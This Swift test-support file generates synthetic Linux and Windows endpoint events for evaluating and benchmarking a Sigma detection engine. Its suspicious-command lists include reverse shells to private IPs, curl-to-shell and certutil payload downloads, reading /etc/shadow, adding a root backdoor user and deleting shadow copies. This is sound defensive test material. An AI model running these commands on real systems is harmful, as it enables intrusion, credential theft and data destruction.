import EDRCore
import Foundation

/// A deterministic, synthetic mix of the events the agent's normalizer produces, shared by the
/// engine tests (CorpusTests, EngineTests: every SigmaHQ rule evaluated on realistic events)
/// and the benchmarks in Benchmarks/ (the figures of docs/benchmarks.md are on this mix).
public enum SigmaEventMix {
    /// Where two engines (one rule set, loaded with different options) disagree on `events`:
    /// each event whose matching rules differ, or on which `a` reports a rule twice; and how
    /// many matches `a` reported. The tests hold each optimization of the engine to the same
    /// results as the engine without it this way.
    public static func compare(_ a: SigmaEngine, _ b: SigmaEngine, on events: [Event]) -> (matches: Int, differences: [String]) {
        func names(_ m: [SigmaMatch]) -> [String] { m.map { "\($0.rule.path) \($0.rule.title)" }.sorted() }
        var total = 0
        var differences: [String] = []
        for e in events {
            let x = names(a.evaluate(e)), y = names(b.evaluate(e))
            if x != y { differences.append("\(e.logsource) \(e.fields): \(x) against \(y)") }
            if Set(x).count != x.count { differences.append("\(e.logsource) \(e.fields): a rule reported twice: \(x)") }
            total += x.count
        }
        return (total, differences)
    }

    /// A deterministic mix of what this Linux agent's sensor produces: 65% process_creation,
    /// 20% file_event, 15% network_connection (`windows: true` instead gives 55/15/10 Linux and
    /// 12% Windows process_creation, 4% registry_set, 4% file_event). About 2% of the events are
    /// suspicious command lines taken from common attack tooling.
    public static func events(count: Int, windows: Bool = false) -> [Event] {
        var rng = SplitMix64(seed: 42)
        let linuxBins = [
            "/usr/bin/ls", "/usr/bin/git", "/usr/bin/python3", "/usr/bin/bash", "/usr/bin/grep", "/usr/sbin/sshd",
            "/usr/bin/systemctl", "/usr/bin/cat", "/usr/bin/awk", "/usr/bin/sed", "/usr/lib/systemd/systemd-journald",
            "/usr/bin/node", "/usr/bin/dpkg", "/usr/bin/apt-get", "/usr/bin/curl", "/usr/bin/tar", "/usr/bin/find"
        ]
        let linuxArgs = [
            "-la /var/log", "status nginx.service", "-c 'import sys; print(sys.version)'", "--version",
            "-rn TODO src/", "commit -m 'fix build'", "-xzf release.tar.gz -C /opt/app", "/etc/hosts",
            "-fsSL https://example.com/index.html -o /tmp/index.html", "/home/user -name '*.log' -mtime +7",
            "'{print $1}' /var/log/syslog", "-i 's/foo/bar/g' config.ini", "install -y jq", "-l"
        ]
        let suspicious = [
            "bash -i >& /dev/tcp/10.0.0.5/4444 0>&1", "curl http://198.51.100.7/x.sh | sh",
            "base64 -d /tmp/payload | bash", "chmod +s /bin/bash", "crontab -r", "nc -e /bin/sh 10.1.1.1 9001",
            "cat /etc/shadow", "wget http://203.0.113.9/k -O /tmp/k; chmod +x /tmp/k", "history -c",
            "iptables -F", "setenforce 0", "useradd -o -u 0 backdoor"
        ]
        let winBins = [
            "C:\\Windows\\System32\\svchost.exe", "C:\\Windows\\explorer.exe", "C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe",
            "C:\\Windows\\System32\\cmd.exe", "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
            "C:\\Windows\\System32\\conhost.exe", "C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE",
            "C:\\Windows\\System32\\rundll32.exe", "C:\\Windows\\System32\\taskhostw.exe"
        ]
        let winArgs = [
            "-k netsvcs -p -s Schedule", "/c dir C:\\Users", "-NoProfile -ExecutionPolicy Bypass -File C:\\scripts\\backup.ps1",
            "--type=renderer --lang=en-US", "0xffffffff -ForceV1", "/n C:\\Users\\bob\\Documents\\report.docx",
            "shell32.dll,Control_RunDLL", "-Embedding"
        ]
        let winSusp = [
            "powershell -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA",
            "cmd.exe /c vssadmin delete shadows /all /quiet", "rundll32.exe C:\\Users\\Public\\x.dll,DllRegisterServer",
            "certutil -urlcache -split -f http://198.51.100.7/a.exe a.exe", "whoami /priv"
        ]
        var out: [Event] = []
        out.reserveCapacity(count)
        var ts = 1_760_000_000.0
        for _ in 0..<count {
            ts += 0.01
            var r = rng.next() % 100
            if !windows { r = r < 65 ? r * 55 / 65 : (r < 85 ? 55 + (r - 65) * 15 / 20 : 70 + (r - 85) * 10 / 15) }
            let susp = rng.next() % 50 == 0
            if r < 55 {
                let img = linuxBins[Int(rng.next() % UInt64(linuxBins.count))]
                let cmd =
                    susp
                    ? suspicious[Int(rng.next() % UInt64(suspicious.count))]
                    : "\((img as NSString).lastPathComponent) \(linuxArgs[Int(rng.next() % UInt64(linuxArgs.count))])"
                let parent = rng.next() % 3 == 0 ? "/usr/bin/bash" : "/usr/lib/systemd/systemd"
                out.append(
                    Event(
                        logsource: LogSource(product: "linux", category: "process_creation"), timestamp: ts,
                        fields: [
                            ("ProcessId", .int(Int64(1000 + rng.next() % 30000))), ("Image", .string(img)), ("CommandLine", .string(cmd)),
                            ("CurrentDirectory", "/home/user"), ("User", .string(rng.next() % 4 == 0 ? "root" : "user")), ("LogonId", .int(1000)),
                            ("ParentProcessId", .int(Int64(1 + rng.next() % 3000))), ("ParentImage", .string(parent)),
                            ("ParentCommandLine", .string(parent == "/usr/bin/bash" ? "-bash" : "/sbin/init"))
                        ]))
            } else if r < 70 {
                let files = [
                    "/tmp/tmp.\(rng.next() % 10000)", "/home/user/.cache/pip/x\(rng.next() % 100).whl", "/var/log/syslog",
                    "/etc/cron.d/backup", "/home/user/.bashrc", "/var/lib/dpkg/status", "/etc/ld.so.preload", "/usr/lib/x86_64-linux-gnu/libfoo.so"
                ]
                out.append(
                    Event(
                        logsource: LogSource(product: "linux", category: "file_event"), timestamp: ts,
                        fields: [
                            ("TargetFilename", .string(files[Int(rng.next() % UInt64(susp ? files.count : 6))])),
                            ("Image", .string(linuxBins[Int(rng.next() % UInt64(linuxBins.count))])), ("ProcessId", .int(4242)), ("User", "user")
                        ]))
            } else if r < 80 {
                out.append(
                    Event(
                        logsource: LogSource(product: "linux", category: "network_connection"), timestamp: ts,
                        fields: [
                            ("Image", .string(linuxBins[Int(rng.next() % UInt64(linuxBins.count))])), ("Initiated", "true"),
                            ("SourceIp", "192.168.1.20"), ("SourcePort", .int(Int64(30000 + rng.next() % 20000))),
                            ("DestinationIp", .string("93.184.216.\(rng.next() % 255)")), ("DestinationPort", .int(rng.next() % 5 == 0 ? 4444 : 443)),
                            ("DestinationHostname", "example.com"), ("Protocol", "tcp")
                        ]))
            } else if r < 92 {
                let img = winBins[Int(rng.next() % UInt64(winBins.count))]
                let cmd = susp ? winSusp[Int(rng.next() % UInt64(winSusp.count))] : "\"\(img)\" \(winArgs[Int(rng.next() % UInt64(winArgs.count))])"
                out.append(
                    Event(
                        logsource: LogSource(product: "windows", category: "process_creation"), timestamp: ts,
                        fields: [
                            ("EventID", .int(1)), ("Image", .string(img)), ("CommandLine", .string(cmd)),
                            ("OriginalFileName", .string((img as NSString).lastPathComponent.uppercased())),
                            ("ParentImage", "C:\\Windows\\explorer.exe"), ("ParentCommandLine", "C:\\Windows\\Explorer.EXE"),
                            ("User", "CORP\\bob"), ("IntegrityLevel", "Medium"), ("CurrentDirectory", "C:\\Users\\bob\\"),
                            ("Hashes", "SHA256=9F2B2E3A0C5B1E7D4C6A8B0D2E4F6A8C0E2D4B6A8C0E2F4A6B8C0D2E4F6A8B0C"),
                            ("Company", "Microsoft Corporation"), ("Product", "Microsoft® Windows® Operating System"), ("Description", "Windows host process")
                        ]))
            } else if r < 96 {
                out.append(
                    Event(
                        logsource: LogSource(product: "windows", category: "registry_set"), timestamp: ts,
                        fields: [
                            ("EventID", .int(13)), ("EventType", "SetValue"),
                            ("TargetObject", .string("HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run\\Updater\(rng.next() % 10)")),
                            ("Details", "C:\\Program Files\\Updater\\upd.exe"), ("Image", .string(winBins[Int(rng.next() % UInt64(winBins.count))]))
                        ]))
            } else {
                out.append(
                    Event(
                        logsource: LogSource(product: "windows", category: "file_event"), timestamp: ts,
                        fields: [
                            ("EventID", .int(11)), ("TargetFilename", .string("C:\\Users\\bob\\AppData\\Local\\Temp\\tmp\(rng.next() % 1000).tmp")),
                            ("Image", .string(winBins[Int(rng.next() % UInt64(winBins.count))]))
                        ]))
            }
        }
        return out
    }
}
